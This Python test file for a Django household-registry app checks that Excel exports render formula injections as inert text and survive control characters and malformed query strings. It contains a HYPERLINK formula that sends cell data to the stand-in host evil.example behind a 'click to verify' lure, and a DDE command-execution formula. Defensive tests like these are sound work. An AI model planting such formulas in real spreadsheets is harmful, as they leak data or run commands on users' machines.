"""What a clerk can type, import or note cannot run in, or break, an export (issue #8): formulas
typed into a form, imported from a sheet or written in a visit's notes come out as inert,
quote-prefixed text; a stored control character or ``?q=%01`` never makes an export fail."""
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from core.excel import build_workbook
from households.models import Couple, FollowUpVisit, Household, ImportBatch

from ..factories import FollowUpVisitFactory, HouseholdFactory, RegisterCoupleFactory
from .test_households_views import CREATE, create_data
from .test_import_sheet import HEADERS, good_row
from .test_visits_views import form_data

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A5&B5,"点击核对")'
CALC = "=cmd|' /C calc'!A0"
KINDS = ["households", "register", "visits"]


def cells(response) -> dict[str, object]:
    """value → cell of every text cell of the exported sheet."""
    assert response.status_code == 200, response.content[:300]
    sheet = load_workbook(io.BytesIO(response.content)).active
    return {c.value: c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}


def export(client, kind):
    return client.get(reverse(f"households:export_{kind}"))


def assert_inert(cell):
    assert cell.data_type == "s" and cell.quotePrefix


def test_formula_typed_into_the_household_form_is_exported_as_inert_text(client_for, clerk_a, village_a):
    client = client_for(clerk_a)
    response = client.post(CREATE, create_data(village_a, address=HYPERLINK, phone="+8613800000000"))
    assert response.status_code == 302
    exported = cells(export(client, "households"))
    assert_inert(exported[HYPERLINK])
    assert_inert(exported["+8613800000000"])


def test_formula_imported_from_a_sheet_is_exported_as_inert_text(client_for, clerk_a, village_a):
    client = client_for(clerk_a)
    # Written as text cells, as a clerk's sheet holds them (a formula cell would import its result).
    row = good_row(1, 家庭地址=HYPERLINK, 备注=CALC)
    content = build_workbook(title="摸底登记表", notes=[], headers=HEADERS, rows=[[row.get(h) for h in HEADERS]])
    client.post(reverse("households:import_upload"),
                {"file": SimpleUploadedFile("表.xlsx", content)})
    batch = ImportBatch.objects.get()
    client.post(reverse("households:import_confirm", args=[batch.pk]))
    assert Couple.objects.get().household.address == HYPERLINK

    exported = cells(export(client, "register"))
    assert_inert(exported[HYPERLINK])


def test_formula_written_in_a_visits_notes_is_exported_as_inert_text(client_for, clerk_a, village_a):
    couple = RegisterCoupleFactory(household__village=village_a, responsible=clerk_a)
    client = client_for(clerk_a)
    response = client.post(reverse("households:visit_create", args=[couple.pk]), form_data(notes=CALC))
    assert response.status_code == 302 and FollowUpVisit.objects.get().notes == CALC
    assert_inert(cells(export(client, "visits"))[CALC])


def test_stored_control_characters_never_break_an_export(client_for, clerk_a, village_a):
    # Stored directly, as an older version or another path might have: Word's soft line break.
    couple = RegisterCoupleFactory(household__village=village_a, household__address="三组\x0b12号")
    FollowUpVisitFactory(couple=couple, notes="已随访\x0b\x01下次带叶酸\ufffe")
    HouseholdFactory(village=village_a, address="五组\x1f3号", head_name="\x0c王五")
    assert Household.objects.filter(address__contains="\x0b").exists()
    client = client_for(clerk_a)

    households, visits = cells(export(client, "households")), cells(export(client, "visits"))

    assert "三组12号" in households and "五组3号" in households and "王五" in households
    assert "已随访下次带叶酸" in visits


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("query", ["q=%01", "q=%00", "q=%0B%3Dcmd", "q=" + "%E4%B8%80" * 50, "date_from=0001-01-01",
                                   "village=abc", "sort=%01"])
def test_hostile_query_strings_on_every_export_are_never_a_500(client_for, clerk_a, village_a, kind, query):
    RegisterCoupleFactory(household__village=village_a)
    response = client_for(clerk_a).get(f"{reverse(f'households:export_{kind}')}?{query}")
    assert response.status_code in (200, 400, 404), response.content[:300]
    if response.status_code == 200:
        assert load_workbook(io.BytesIO(response.content)).active is not None


@pytest.mark.parametrize("kind", KINDS)
def test_a_control_character_in_the_search_exports_a_sheet_that_opens(client_for, clerk_a, village_a, kind):
    RegisterCoupleFactory(household__village=village_a)
    response = client_for(clerk_a).get(f"{reverse(f'households:export_{kind}')}?q=%01")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    # core.forms drops the control character from the search at the door: nothing of it reaches the sheet.
    assert not any("\x01" in str(c.value) for row in sheet.iter_rows() for c in row if c.value)
